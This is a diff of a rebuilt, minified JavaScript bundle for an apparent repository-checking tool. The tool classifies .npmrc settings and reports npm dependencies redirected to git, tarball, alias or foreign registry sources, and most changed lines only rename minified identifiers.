-limit:$h});if(this.#t.size>=Rh)return r({why:"count",limit:Rh});this.#e.add(e);const a=await s();return this.#e.delete(e),
-this.#t.add(o),a}}const lT=Qt(t=>Jr(t.files(),({path:e})=>te.posix.dirname(e))),dT=20;function BT(t,e){const n=e.split("\
-/").slice(-dT),s=n.at(-1)??"",r=te.posix.dirname(e),i=n.slice(1,-1).map((u,d)=>n.slice(d+1).join("/")).find(u=>Nh(t.stat(
-u)));if(i!==void 0)return i;const o=Wr(t,s).filter(Nh),a=o.filter(({path:u})=>u.endsWith(`/${e}`));if(a.length===1)return a[0]?.
-path;const c=(lT(t).get(r)??[]).filter(({path:u})=>te.posix.extname(u)===te.posix.extname(s)).map(({path:u})=>te.posix.basename(
-u)),l=Ur(s,c);return l!==void 0?te.posix.join(r,l):o.length===1?o[0]?.path:void 0}function Nh(t){return!!t?.tracked&&mt(
-t.kind)&&!xt(t.path,"node_modules")}function qa(t,e,n){switch(t.kind){case"inside":return t.entry;case"outside":return ae(
+return r({why:"time",limit:i});const o=`${e}\0${n}`;if(this.#t.has(o))return Ne;if(this.#e.size>=Th)return r({why:"depth",
+limit:Th});if(this.#t.size>=Ih)return r({why:"count",limit:Ih});this.#e.add(e);const a=await s();return this.#e.delete(e),
+this.#t.add(o),a}}const tT=Qt(t=>zr(t.files(),({path:e})=>te.posix.dirname(e))),nT=20;function sT(t,e){const n=e.split("\
+/").slice(-nT),s=n.at(-1)??"",r=te.posix.dirname(e),i=n.slice(1,-1).map((u,d)=>n.slice(d+1).join("/")).find(u=>$h(t.stat(
+u)));if(i!==void 0)return i;const o=Zr(t,s).filter($h),a=o.filter(({path:u})=>u.endsWith(`/${e}`));if(a.length===1)return a[0]?.
+path;const c=(tT(t).get(r)??[]).filter(({path:u})=>te.posix.extname(u)===te.posix.extname(s)).map(({path:u})=>te.posix.basename(
+u)),l=Hr(s,c);return l!==void 0?te.posix.join(r,l):o.length===1?o[0]?.path:void 0}function $h(t){return!!t?.tracked&&mt(
+t.kind)&&!xt(t.path,"node_modules")}function Wa(t,e,n){switch(t.kind){case"inside":return t.entry;case"outside":return ae(
 "target-outside",n,{path:e,reason:"symlink"});case"missing":return ae("target-missing",n,{path:e});case"loop":return ae(
-"target-not-a-file",n,{path:e,reason:"loop"})}}function gi(t,e,n,s){const r=BT(t,e),i=e.slice(0,Math.max(0,e.length-(xe(
+"target-not-a-file",n,{path:e,reason:"loop"})}}function gi(t,e,n,s){const r=sT(t,e),i=e.slice(0,Math.max(0,e.length-(xe(
 n)?.length??0))),o=r&&te.posix.relative(i,r),c=e.split("/").map((l,u,d)=>d.slice(0,u).join("/")).find(l=>t.stat(l)?.kind===
-"submodule");return ae("target-missing",s,{path:n,...c?{submodule:c}:o&&{near:o}})}function Ci(t,e,n){const s=qa(t,e,n);
-return"problems"in s||mt(s.kind)?s:ae("target-not-a-file",n,{path:e,reason:s.kind})}function fT(t,e,n){const s=e.startsWith(
+"submodule");return ae("target-missing",s,{path:n,...c?{submodule:c}:o&&{near:o}})}function Ci(t,e,n){const s=Wa(t,e,n);
+return"problems"in s||mt(s.kind)?s:ae("target-not-a-file",n,{path:e,reason:s.kind})}function rT(t,e,n){const s=e.startsWith(
 "/")?void 0:xe(rt(t,e));if(s===void 0)return ae("target-outside",n,{path:e,reason:"above"});const r=Je(t.tree,s);return r.
-kind==="missing"?gi(t.tree,s,e,n):qa(r,e,n)}function Va(t,{text:e,span:n}){const s=e.startsWith("/")?void 0:xe(rt(t,e)),
-r=s===void 0?void 0:Je(t.tree,s);return s===void 0||r?.kind!=="inside"||!mt(r.entry.kind)?Re:yi(t,{name:e,path:r.path,wanted:s},
+kind==="missing"?gi(t.tree,s,e,n):Wa(r,e,n)}function qa(t,{text:e,span:n}){const s=e.startsWith("/")?void 0:xe(rt(t,e)),
+r=s===void 0?void 0:Je(t.tree,s);return s===void 0||r?.kind!=="inside"||!mt(r.entry.kind)?Ne:yi(t,{name:e,path:r.path,wanted:s},
 n)}function yi(t,{name:e,path:n,wanted:s},r){const i=t.changed.has(n)||t.changed.has(s);return{targets:[mi(t,{kind:"file",
 name:e,path:n})],problems:i?[be("target-changed",r,{path:n})]:[]}}async function wi(t,e,n){const s=Je(t,e);if(!(s.kind===
 "missing"&&t.stat(e)===void 0))return s.kind!=="inside"?{unread:"it is a symbolic link that leads to no file of the repo\
 sitory"}:mt(s.entry.kind)?(s.entry.size??0)>n?{unread:"it is too large"}:{text:(await t.read(s.path,n)).toString("utf8"),
-path:s.path}:{unread:"it is not a regular file"}}async function hT(t,e,n){if(t===e)return!1;const[s,r]=[t,e].map(l=>Je(l,
+path:s.path}:{unread:"it is not a regular file"}}async function iT(t,e,n){if(t===e)return!1;const[s,r]=[t,e].map(l=>Je(l,
 n));if(s?.kind!=="inside"||r?.kind!=="inside")return!0;const[i,o]=[s.entry,r.entry];if(i.oid!==void 0&&i.oid===o.oid)return!1;
 if(i.size!==o.size||!mt(i.kind)||!mt(o.kind))return!0;const[a,c]=await Promise.all([t.read(i.path,i.size),e.read(o.path,
-o.size)]);return!a.equals(c)}async function pT(t,e){const[n=""]=(await t.read(e)).subarray(0,256).toString("latin1").split(
+o.size)]);return!a.equals(c)}async function oT(t,e){const[n=""]=(await t.read(e)).subarray(0,256).toString("latin1").split(
 `
-`,1);return n}const mT=64*1024;async function ms(t){const e=await wi(t.tree,rt(t,".npmrc"),mT);if(e===void 0)return{settings:{}};
-if("unread"in e)return e;const n=cT(e.text);return n!==void 0?{unread:n}:{settings:(0,Ih.parse)(e.text),file:e.path}}async function Ya(t,e){
-const n=rt(t,".npmrc"),s=await ms(t);if("unread"in s)return ae("npmrc-setting",e,{path:n,keys:[],why:s.unread});const{settings:r,
-file:i=n}=s,o=t.changed.has(n)||t.changed.has(i),a=t.base&&await ms({...t,tree:t.base}),c=a&&"settings"in a?a.settings:{},
-l={changed:[],decides:[],stands:[]};for(const[u,d]of Object.entries(r)){const B=Xa(u,d),f=o&&JSON.stringify(c[u])!==JSON.
+`,1);return n}const aT=64*1024;async function ps(t){const e=await wi(t.tree,rt(t,".npmrc"),aT);if(e===void 0)return{settings:{}};
+if("unread"in e)return e;const n=QS(e.text);return n!==void 0?{unread:n}:{settings:(0,Sh.parse)(e.text),file:e.path}}async function Va(t,e){
+const n=rt(t,".npmrc"),s=await ps(t);if("unread"in s)return ae("npmrc-setting",e,{path:n,keys:[],why:s.unread});const{settings:r,
+file:i=n}=s,o=t.changed.has(n)||t.changed.has(i),a=t.base&&await ps({...t,tree:t.base}),c=a&&"settings"in a?a.settings:{},
+l={changed:[],decides:[],stands:[]};for(const[u,d]of Object.entries(r)){const B=Ya(u,d),f=o&&JSON.stringify(c[u])!==JSON.
 stringify(d),h=u==="node-options"&&!If(String(d));B==="harmless"||B==="honoured"&&!f&&!h||l[f?"changed":B==="other"?"sta\
-nds":"decides"].push(u)}return Ie(Object.entries(l).map(([u,d])=>d.length===0?Re:ae("npmrc-setting",e,{path:n,keys:d,why:u},
-u==="stands"?"warning":void 0)))}const gT=new Set(`access allow-same-version audit audit-level auth-type bin-links color\
+nds":"decides"].push(u)}return Ie(Object.entries(l).map(([u,d])=>d.length===0?Ne:ae("npmrc-setting",e,{path:n,keys:d,why:u},
+u==="stands"?"warning":void 0)))}const cT=new Set(`access allow-same-version audit audit-level auth-type bin-links color\
  commit-hooks cpu depth
   description diff-ignore-all-space diff-name-only diff-no-prefix diff-text diff-unified dry-run
   engine-strict expect-result-count expect-results fetch-retries fetch-retry-factor
@@ -4680,213 +4671,213 @@ u==="stands"?"warning":void 0)))}const gT=new Set(`access allow-same-version aud
   ignore-workspace-root-check link-workspace-packages manage-package-manager-versions node-linker
   prefer-workspace-packages public-hoist-pattern recursive-install resolution-mode
   save-workspace-protocol shamefully-hoist shared-workspace-lockfile side-effects-cache
-  strict-peer-dependencies use-node-version`.split(/\s+/)),CT=new Set(`browser call editor extension-file git global glo\
+  strict-peer-dependencies use-node-version`.split(/\s+/)),uT=new Set(`browser call editor extension-file git global glo\
 balconfig if-present include-workspace-root
   init-module init.module location node-gyp node-options package prefix scripts-prepend-node-path
-  script-shell shell usage userconfig version versions viewer workspace workspaces yes`.split(/\s+/)),yT=new Set(["ignor\
-e-scripts","node-options"]);function Xa(t,e){const n=typeof e!="object"&&!String(e).includes("${");if(t==="ignore-script\
-s"&&n)return typeof e=="boolean"?"honoured":"decides";if(yT.has(t)&&n)return"honoured";const s=t.toLowerCase().replaceAll(
-"_","-");return CT.has(s)||t.includes("${")?"decides":!gT.has(t)||typeof e=="object"&&!Array.isArray(e)||String(e).includes(
-"${")?"other":"harmless"}async function wT(t,e){return Promise.all(Wr(t,".npmrc").map(({path:n})=>bT(t,n,e)))}async function bT(t,e,n){
-const s=te.posix.dirname(e),r=await ms({tree:t,directory:s==="."?"":s});if("unread"in r)return _T(t,e,r.unread);const{settings:i,
-file:o=e}=r,a=n.has(e)||n.has(o),c=([u,d])=>{const B=Xa(u,d);return B==="harmless"||B==="honoured"&&!a},l=Object.entries(
-i);return{path:o,text:(0,Ih.stringify)(Object.fromEntries(l.filter(c))),dropped:l.filter(u=>!c(u)).map(([u])=>u)}}function _T(t,e,n){
-const s=Je(t,e);return s.kind==="inside"&&mt(s.entry.kind)?{path:s.path,text:"",dropped:[n]}:{path:e,dropped:[n]}}const ET=/^(?:registry|@[^:]+:registry|\/\/.*|always-auth|_auth|_authToken|ca(?:file)?|cert|key|(?:https?-)?proxy|noproxy|strict-ssl)$/;
-async function kT(t,e){return(await wT(t,e)).flatMap(({path:s,dropped:r})=>{const i=r.filter(o=>!ET.test(o));return i.length>
-0?[`${s}: ${i.join(", ")}`]:[]})}function Fh(t){try{return t()}catch{return}}const Lh=200;function vT(t){if(new RegExp(`\
-^[ \\t?-]{${Lh}}`,"m").test(t))return!0;let e=0;for(const n of t.match(/[[\]{}]/g)??[])if(e=Math.max(0,e+(/[[{]/.test(n)?
-1:-1)),e>Lh)return!0;return!1}const DT=["dependencies","devDependencies","optionalDependencies"],Ph=64*1024*1024,Rt=Symbol(
-"invalid"),gs=Js(async(t,e)=>{if(Je(t,e).kind==="missing")return;const n=await wi(t,e,Ph);if(n===void 0||"unread"in n||vT(
-n.text))return Rt;const s=Fh(()=>JSON.parse(n.text.replace(/^\uFEFF/,"")));return typeof s=="object"&&s!==null?s:Rt}),Xs=Js(
-async(t,e)=>{const n=e===""?"package.json":`${e}/package.json`,s=await gs(t,n);return s===void 0||s===Rt?s:xT(n,s)});async function Jt(t,e){
-const n=await Xs(t,e);return n===Rt?void 0:n}function xT(t,e){const n=typeof e.name=="string"?e.name:"";return{path:t,name:n,
-scripts:Qa(e.scripts),binaries:new Map(Object.entries(bi(e.bin,n)??{})),dependencies:new Set(DT.flatMap(s=>[...Qa(e[s]).
-keys()])),workspaces:OT(e.workspaces)}}function bi(t,e){if(typeof t=="string")return{[e.replace(/^@[^/]*\//,"")]:t};const n=Qa(
-t);return n.size===0?void 0:Object.fromEntries(n)}function Qa(t){return new Map(Object.entries(yt(t)).flatMap(([e,n])=>typeof n==
-"string"?[[e,n]]:[]))}function OT(t){const e=Array.isArray(t)?t:yt(t).packages;return Array.isArray(e)?e.filter(n=>typeof n==
-"string"):[]}const AT={kind:"registry"},ST=/^(?:git(?:[+:@]|$)|ssh:|(?:github|gitlab|bitbucket|gist):|[^@/:]+@[^:./]+\.[^:/]+:)|\.git(?:#|$)/i,
-TT=/^[\w.-]+\/[\w.-]+(?:#.*)?$/,IT=/^(?:file|link|portal|workspace):(.*)$/is;function jh(t,e,n){const[,s]=IT.exec(t)??[];
-return s!==void 0?{kind:"file",at:s}:ST.test(t)?{kind:"git",at:t.replace(/#.*$/s,"")}:/^https?:/i.test(t)?$T(t,e,n):/^(?:\.{0,2}\/|~\/|[a-z]:[\\/])/i.
-test(t)||/\.t(?:ar\.)?gz$/i.test(t)?{kind:"file",at:t}:TT.test(t)?{kind:"git",at:t.replace(/#.*$/s,"")}:AT}function $T(t,e,n){
-const s={kind:"tarball",at:t.replace(/#.*$/s,"")};if(!URL.canParse(t))return s;const{host:r,pathname:i}=new URL(t),o=RT(
+  script-shell shell usage userconfig version versions viewer workspace workspaces yes`.split(/\s+/)),lT=new Set(["ignor\
+e-scripts","node-options"]);function Ya(t,e){const n=typeof e!="object"&&!String(e).includes("${");if(t==="ignore-script\
+s"&&n)return typeof e=="boolean"?"honoured":"decides";if(lT.has(t)&&n)return"honoured";const s=t.toLowerCase().replaceAll(
+"_","-");return uT.has(s)||t.includes("${")?"decides":!cT.has(t)||typeof e=="object"&&!Array.isArray(e)||String(e).includes(
+"${")?"other":"harmless"}async function dT(t,e){return Promise.all(Zr(t,".npmrc").map(({path:n})=>BT(t,n,e)))}async function BT(t,e,n){
+const s=te.posix.dirname(e),r=await ps({tree:t,directory:s==="."?"":s});if("unread"in r)return fT(t,e,r.unread);const{settings:i,
+file:o=e}=r,a=n.has(e)||n.has(o),c=([u,d])=>{const B=Ya(u,d);return B==="harmless"||B==="honoured"&&!a},l=Object.entries(
+i);return{path:o,text:(0,Sh.stringify)(Object.fromEntries(l.filter(c))),dropped:l.filter(u=>!c(u)).map(([u])=>u)}}function fT(t,e,n){
+const s=Je(t,e);return s.kind==="inside"&&mt(s.entry.kind)?{path:s.path,text:"",dropped:[n]}:{path:e,dropped:[n]}}const hT=/^(?:registry|@[^:]+:registry|\/\/.*|always-auth|_auth|_authToken|ca(?:file)?|cert|key|(?:https?-)?proxy|noproxy|strict-ssl)$/;
+async function pT(t,e){return(await dT(t,e)).flatMap(({path:s,dropped:r})=>{const i=r.filter(o=>!hT.test(o));return i.length>
+0?[`${s}: ${i.join(", ")}`]:[]})}function Nh(t){try{return t()}catch{return}}const Rh=200;function mT(t){if(new RegExp(`\
+^[ \\t?-]{${Rh}}`,"m").test(t))return!0;let e=0;for(const n of t.match(/[[\]{}]/g)??[])if(e=Math.max(0,e+(/[[{]/.test(n)?
+1:-1)),e>Rh)return!0;return!1}const gT=["dependencies","devDependencies","optionalDependencies"],Fh=64*1024*1024,Nt=Symbol(
+"invalid"),ms=Us(async(t,e)=>{if(Je(t,e).kind==="missing")return;const n=await wi(t,e,Fh);if(n===void 0||"unread"in n||mT(
+n.text))return Nt;const s=Nh(()=>JSON.parse(n.text.replace(/^\uFEFF/,"")));return typeof s=="object"&&s!==null?s:Nt}),Vs=Us(
+async(t,e)=>{const n=e===""?"package.json":`${e}/package.json`,s=await ms(t,n);return s===void 0||s===Nt?s:CT(n,s)});async function Jt(t,e){
+const n=await Vs(t,e);return n===Nt?void 0:n}function CT(t,e){const n=typeof e.name=="string"?e.name:"";return{path:t,name:n,
+scripts:Xa(e.scripts),binaries:new Map(Object.entries(bi(e.bin,n)??{})),dependencies:new Set(gT.flatMap(s=>[...Xa(e[s]).
+keys()])),workspaces:yT(e.workspaces)}}function bi(t,e){if(typeof t=="string")return{[e.replace(/^@[^/]*\//,"")]:t};const n=Xa(
+t);return n.size===0?void 0:Object.fromEntries(n)}function Xa(t){return new Map(Object.entries(yt(t)).flatMap(([e,n])=>typeof n==
+"string"?[[e,n]]:[]))}function yT(t){const e=Array.isArray(t)?t:yt(t).packages;return Array.isArray(e)?e.filter(n=>typeof n==
+"string"):[]}const wT={kind:"registry"},bT=/^(?:git(?:[+:@]|$)|ssh:|(?:github|gitlab|bitbucket|gist):|[^@/:]+@[^:./]+\.[^:/]+:)|\.git(?:#|$)/i,
+_T=/^[\w.-]+\/[\w.-]+(?:#.*)?$/,ET=/^(?:file|link|portal|workspace):(.*)$/is;function Lh(t,e,n){const[,s]=ET.exec(t)??[];
+return s!==void 0?{kind:"file",at:s}:bT.test(t)?{kind:"git",at:t.replace(/#.*$/s,"")}:/^https?:/i.test(t)?kT(t,e,n):/^(?:\.{0,2}\/|~\/|[a-z]:[\\/])/i.
+test(t)||/\.t(?:ar\.)?gz$/i.test(t)?{kind:"file",at:t}:_T.test(t)?{kind:"git",at:t.replace(/#.*$/s,"")}:wT}function kT(t,e,n){
+const s={kind:"tarball",at:t.replace(/#.*$/s,"")};if(!URL.canParse(t))return s;const{host:r,pathname:i}=new URL(t),o=vT(
 i),[,a]=/^\/([^/]+\/[^/]+)\/tar\.gz\//.exec(o)??[];if(r==="codeload.github.com"&&a!==void 0)return{kind:"git",at:`https:\
 //github.com/${a}`};const c=e.replace(/^@[^/]*\//,"");return o.endsWith(`/${e}/-/${c}-${n}.tgz`)||o.endsWith(`/${e}/-/${e}\
--${n}.tgz`)||r==="npm.pkg.github.com"&&o.startsWith(`/download/${e}/${n}/`)?{kind:"registry",at:r}:s}function RT(t){try{
-return decodeURIComponent(t)}catch{return t}}function NT(t){const[,e]=/^npm:((?:@[^/@]+\/)?[^@]+)(?:@.*)?$/s.exec(t)??[];
-return e===void 0||/^[\^~<>=*v\d]/.test(e)?void 0:e}const Zt=Qt(async t=>{const e=pi.filter(i=>t.stat(i)!==void 0),n=Wa.
-find(i=>e.includes(i)),s=n===void 0?void 0:await FT(t,n),r=e.filter(i=>!Wa.some(o=>o===i));return s==="unread"?{unread:[
-n??"",...r]}:n===void 0?{unread:r}:{npm:s??{path:n,packages:new Map,all:[]},unread:r}}),FT=Js(async(t,e)=>{const n=await wi(
-t,e,Ph),s=n&&"text"in n?n.text.replace(/^\uFEFF/,""):"",r=yt(Fh(()=>JSON.parse(s)));if(r.packages===void 0)return r.lockfileVersion===
+-${n}.tgz`)||r==="npm.pkg.github.com"&&o.startsWith(`/download/${e}/${n}/`)?{kind:"registry",at:r}:s}function vT(t){try{
+return decodeURIComponent(t)}catch{return t}}function DT(t){const[,e]=/^npm:((?:@[^/@]+\/)?[^@]+)(?:@.*)?$/s.exec(t)??[];
+return e===void 0||/^[\^~<>=*v\d]/.test(e)?void 0:e}const Zt=Qt(async t=>{const e=pi.filter(i=>t.stat(i)!==void 0),n=Ka.
+find(i=>e.includes(i)),s=n===void 0?void 0:await xT(t,n),r=e.filter(i=>!Ka.some(o=>o===i));return s==="unread"?{unread:[
+n??"",...r]}:n===void 0?{unread:r}:{npm:s??{path:n,packages:new Map,all:[]},unread:r}}),xT=Us(async(t,e)=>{const n=await wi(
+t,e,Fh),s=n&&"text"in n?n.text.replace(/^\uFEFF/,""):"",r=yt(Nh(()=>JSON.parse(s)));if(r.packages===void 0)return r.lockfileVersion===
 1?"unread":void 0;const i=new Map,o=[];for(const[a,c]of Object.entries(yt(r.packages))){if(a==="")continue;const[,l,u]=/^(.*?)node_modules\/((?:@[^/]+\/)?[^/]+)$/s.
-exec(a)??[],d=LT(u??a,yt(c));l===""&&u!==void 0&&i.set(u,d),o.push(d)}return{path:e,packages:i,all:o}});function LT(t,e){
+exec(a)??[],d=OT(u??a,yt(c));l===""&&u!==void 0&&i.set(u,d),o.push(d)}return{path:e,packages:i,all:o}});function OT(t,e){
 const n=dn(e,"name")||t,s=dn(e,"version"),r=dn(e,"resolved"),i=dn(e,"integrity"),o=bi(e.bin,n),a=e.link===!0?{kind:"file",
-at:r.replace(/^file:/,"")}:jh(r,n,s);return{name:n,version:s,source:a,...i&&{integrity:i},...o&&{bin:o}}}async function PT(t,e,n,s){
+at:r.replace(/^file:/,"")}:Lh(r,n,s);return{name:n,version:s,source:a,...i&&{integrity:i},...o&&{bin:o}}}async function AT(t,e,n,s){
 if(t===e)return[];const[{npm:r},{npm:i}]=await Promise.all([Zt(t),Zt(e)]),o=i?.packages.get(n),a={name:n,tree:t,base:e,before:[
-...o?[o]:[],...await Uh(e,n)],hosts:await KT(e),configured:await WT(t,n)},c=await zT(a),l=r?.packages.get(n),d=l?jT(l,a):
-r?void 0:ec({name:n,version:"",source:{kind:"registry"}},a);return d&&c.push({name:n,path:r?.path??".npmrc",...d}),c.map(
-B=>be("dependency-redirected",s,B))}function jT(t,e){const{tree:n,base:s}=e,r=e.before.find(o=>Hh(o,t));return r?.version===
-t.version&&HT(r,t)||GT(t,n,s)?{how:"integrity",to:t.integrity??"nothing"}:r?ec(t,e):Mh(t,e)}function Mh(t,e){const{source:n}=t;
+...o?[o]:[],...await Hh(e,n)],hosts:await PT(e),configured:await jT(t,n)},c=await NT(a),l=r?.packages.get(n),d=l?ST(l,a):
+r?void 0:Qa({name:n,version:"",source:{kind:"registry"}},a);return d&&c.push({name:n,path:r?.path??".npmrc",...d}),c.map(
+B=>be("dependency-redirected",s,B))}function ST(t,e){const{tree:n,base:s}=e,r=e.before.find(o=>Mh(o,t));return r?.version===
+t.version&&$T(r,t)||IT(t,n,s)?{how:"integrity",to:t.integrity??"nothing"}:r?Qa(t,e):Ph(t,e)}function Ph(t,e){const{source:n}=t;
 if(n.kind==="git"||n.kind==="tarball")return{how:n.kind,to:n.at};if(n.kind==="file"){const s=e.before.some(r=>r.source.kind!==
-"file");return MT(t,e.tree)&&!s?void 0:{how:"file",to:n.at}}return t.name!==e.name?{how:"alias",to:t.name}:ec(t,e)}function ec({
-source:t},{hosts:e,configured:n}){if(t.kind!=="registry")return;const s=ZT(t,n);return e.has(s)?void 0:{how:"host",to:s}}
-function Gh({source:t}){if(t.kind==="file")return xe(t.at.replace(/#.*$|::.*$/s,""))||void 0}function MT(t,e){const n=Gh(
-t),s=n===void 0?void 0:Je(e,n);return s?.kind==="inside"&&s.entry.kind==="directory"}function GT(t,e,n){const s=Gh(t);if(s===
+"file");return TT(t,e.tree)&&!s?void 0:{how:"file",to:n.at}}return t.name!==e.name?{how:"alias",to:t.name}:Qa(t,e)}function Qa({
+source:t},{hosts:e,configured:n}){if(t.kind!=="registry")return;const s=LT(t,n);return e.has(s)?void 0:{how:"host",to:s}}
+function jh({source:t}){if(t.kind==="file")return xe(t.at.replace(/#.*$|::.*$/s,""))||void 0}function TT(t,e){const n=jh(
+t),s=n===void 0?void 0:Je(e,n);return s?.kind==="inside"&&s.entry.kind==="directory"}function IT(t,e,n){const s=jh(t);if(s===
 void 0)return!1;const[r,i]=[e,n].map(a=>Je(a,s));return!(r?.kind==="inside"&&mt(r.entry.kind))||i?.kind!=="inside"?!1:r.
-entry.oid!==i.entry.oid||r.entry.size!==i.entry.size}function Hh(t,e){return t.name===e.name&&t.source.kind===e.source.kind&&
-Jh(t)===Jh(e)}function HT({integrity:t,source:e},{integrity:n}){if(t===void 0||e.kind==="file"&&n===void 0)return!1;if(n===
-void 0)return!0;const s=zh(t),r=[...zh(n)];return r.some(([i])=>s.has(i))&&r.every(([i,o])=>(s.get(i)??o)!==o)}function zh(t){
-return new Map(t.split(/\s+/).map(e=>{const[,n="",s=e]=/^([a-z\d]+)-(.*)$/is.exec(e)??[];return[n,s]}))}async function zT(t){
-const{name:e,tree:n,before:s}=t;return(await Uh(n,e)).flatMap(r=>{if(r.source.kind==="registry"&&r.name===e||s.some(a=>Hh(
-a,r)))return[];const o=Mh(r,t);return o===void 0?[]:[{name:e,path:"package.json",...o}]})}async function Uh(t,e){const n=yt(
-await gs(t,"package.json")),s=["dependencies","devDependencies","optionalDependencies"].map(l=>dn(yt(n[l]),e)),{overrides:r,
-resolutions:i,pnpm:o}=n,a=[r,i,yt(o).overrides].flatMap(l=>Object.entries(yt(l)).flatMap(([u,d])=>JT(u,e)?[typeof d=="st\
-ring"?d:dn(yt(d),".")]:[]));return[...new Set([...s,...a])].filter(l=>l!==""&&!l.startsWith("workspace:")).map(l=>UT(l,e))}
-function UT(t,e){const n=NT(t);return n!==void 0&&n!==e?{name:n,version:"",source:{kind:"registry"}}:{name:e,version:"",
-source:jh(t,e,"")}}function JT(t,e){const n=t.split(/[>]|\*\*\//).at(-1)??"";return n===e||n.startsWith(`${e}@`)||n.endsWith(
-`/${e}`)}function Jh({source:{kind:t,at:e=""},version:n}){return t==="tarball"&&n!==""?e.replaceAll(n,"*"):t==="registry"&&
-_i.includes(e)?"":e}const Zh="registry.npmjs.org",_i=[Zh,"registry.yarnpkg.com"];function ZT({at:t},e){return(t===void 0||
-_i.includes(t)?e:void 0)??t??Zh}const KT=Qt(async t=>{const e=await Kh(t),n=Object.entries(e).filter(([i])=>i==="registr\
-y"||i.endsWith(":registry")).map(([,i])=>Wh(String(i))),s=((await Zt(t)).npm?.all??[]).flatMap(({source:i})=>i.kind==="r\
-egistry"&&i.at?[i.at]:[]),r=e.registry===void 0||s.some(i=>_i.includes(i));return new Set([...n,...s,...r?_i:[]])});async function WT(t,e){
-const n=await Kh(t),[s]=e.startsWith("@")?e.split("/"):[],r=s&&n[`${s}:registry`]||n.registry;return r===void 0?void 0:Wh(
-String(r))}async function Kh(t){const e=await ms({tree:t,directory:""});return"settings"in e?e.settings:{}}function Wh(t){
-return URL.canParse(t)?new URL(t).host:t}function qT(t){return t.length>200||t.split("**").length>2?!1:t==="."?!0:t.split(
-"/").every(e=>/^(?!\.{1,2}$)[\w@.*-]+$/.test(e))}function VT(t){const e=[],n=[],s=t.some(i=>i.includes("{"))?/[[\]!]/:/[[\]]/;
-for(const i of t){const o=/^!*/.exec(i)?.[0].length??0,c=(s.test(i)?void 0:Qs(i.slice(o)))?.map(l=>l.replace(/^\.?\/+/,"").
-replace(/\/$/,""));if(!c?.every(qT))return{unclear:i};if(o%2===1){n.push(...c);continue}for(let l=0;l<n.length;l+=1)c.some(
+entry.oid!==i.entry.oid||r.entry.size!==i.entry.size}function Mh(t,e){return t.name===e.name&&t.source.kind===e.source.kind&&
+zh(t)===zh(e)}function $T({integrity:t,source:e},{integrity:n}){if(t===void 0||e.kind==="file"&&n===void 0)return!1;if(n===
+void 0)return!0;const s=Gh(t),r=[...Gh(n)];return r.some(([i])=>s.has(i))&&r.every(([i,o])=>(s.get(i)??o)!==o)}function Gh(t){
+return new Map(t.split(/\s+/).map(e=>{const[,n="",s=e]=/^([a-z\d]+)-(.*)$/is.exec(e)??[];return[n,s]}))}async function NT(t){
+const{name:e,tree:n,before:s}=t;return(await Hh(n,e)).flatMap(r=>{if(r.source.kind==="registry"&&r.name===e||s.some(a=>Mh(
+a,r)))return[];const o=Ph(r,t);return o===void 0?[]:[{name:e,path:"package.json",...o}]})}async function Hh(t,e){const n=yt(
+await ms(t,"package.json")),s=["dependencies","devDependencies","optionalDependencies"].map(l=>dn(yt(n[l]),e)),{overrides:r,
+resolutions:i,pnpm:o}=n,a=[r,i,yt(o).overrides].flatMap(l=>Object.entries(yt(l)).flatMap(([u,d])=>FT(u,e)?[typeof d=="st\
+ring"?d:dn(yt(d),".")]:[]));return[...new Set([...s,...a])].filter(l=>l!==""&&!l.startsWith("workspace:")).map(l=>RT(l,e))}
+function RT(t,e){const n=DT(t);return n!==void 0&&n!==e?{name:n,version:"",source:{kind:"registry"}}:{name:e,version:"",
+source:Lh(t,e,"")}}function FT(t,e){const n=t.split(/[>]|\*\*\//).at(-1)??"";return n===e||n.startsWith(`${e}@`)||n.endsWith(
+`/${e}`)}function zh({source:{kind:t,at:e=""},version:n}){return t==="tarball"&&n!==""?e.replaceAll(n,"*"):t==="registry"&&
+_i.includes(e)?"":e}const Uh="registry.npmjs.org",_i=[Uh,"registry.yarnpkg.com"];function LT({at:t},e){return(t===void 0||
+_i.includes(t)?e:void 0)??t??Uh}const PT=Qt(async t=>{const e=await Jh(t),n=Object.entries(e).filter(([i])=>i==="registr\
+y"||i.endsWith(":registry")).map(([,i])=>Zh(String(i))),s=((await Zt(t)).npm?.all??[]).flatMap(({source:i})=>i.kind==="r\
+egistry"&&i.at?[i.at]:[]),r=e.registry===void 0||s.some(i=>_i.includes(i));return new Set([...n,...s,...r?_i:[]])});async function jT(t,e){
+const n=await Jh(t),[s]=e.startsWith("@")?e.split("/"):[],r=s&&n[`${s}:registry`]||n.registry;return r===void 0?void 0:Zh(
+String(r))}async function Jh(t){const e=await ps({tree:t,directory:""});return"settings"in e?e.settings:{}}function Zh(t){
+return URL.canParse(t)?new URL(t).host:t}function MT(t){return t.length>200||t.split("**").length>2?!1:t==="."?!0:t.split(
+"/").every(e=>/^(?!\.{1,2}$)[\w@.*-]+$/.test(e))}function GT(t){const e=[],n=[],s=t.some(i=>i.includes("{"))?/[[\]!]/:/[[\]]/;
+for(const i of t){const o=/^!*/.exec(i)?.[0].length??0,c=(s.test(i)?void 0:Ys(i.slice(o)))?.map(l=>l.replace(/^\.?\/+/,"").
+replace(/\/$/,""));if(!c?.every(MT))return{unclear:i};if(o%2===1){n.push(...c);continue}for(let l=0;l<n.length;l+=1)c.some(
 u=>Bn(u,n[l]??""))&&n.splice(l,1);e.push(c)}const r=e.filter(i=>!i.some(o=>n.some(a=>Bn(o,a))));return{wanted:r.flat(),entries:r,
 refused:n}}function Bn(t,e,n={}){return Ei(t.split("/"),e.split("/"),n)}function Ei(t,e,n){const[s,...r]=t,[i,...o]=e;return s===
-void 0?n.partial||e.every(a=>a==="**"):i===void 0?!1:i!=="**"?qh(s,i,n)&&Ei(r,o,n):Ei(t,o,n)?!0:qh(s,"*",n)&&Ei(r,e,n)}function qh(t,e,{
-dot:n=!1}){return t.startsWith(".")&&!e.startsWith(".")&&!n?!1:Fx(t,e)}function ki(t){return/[*?[{]/.test(t)}function Vh(t){
-return t.replace(/[^/]*[*?[{].*$/s,"")}const YT=200,XT=1e3;function Qs(t){if(t.length>XT)return;let e=[t.replace(/\[(.)(?:-\1)?\]/gs,
+void 0?n.partial||e.every(a=>a==="**"):i===void 0?!1:i!=="**"?Kh(s,i,n)&&Ei(r,o,n):Ei(t,o,n)?!0:Kh(s,"*",n)&&Ei(r,e,n)}function Kh(t,e,{
+dot:n=!1}){return t.startsWith(".")&&!e.startsWith(".")&&!n?!1:$x(t,e)}function ki(t){return/[*?[{]/.test(t)}function Wh(t){
+return t.replace(/[^/]*[*?[{].*$/s,"")}const HT=200,zT=1e3;function Ys(t){if(t.length>zT)return;let e=[t.replace(/\[(.)(?:-\1)?\]/gs,
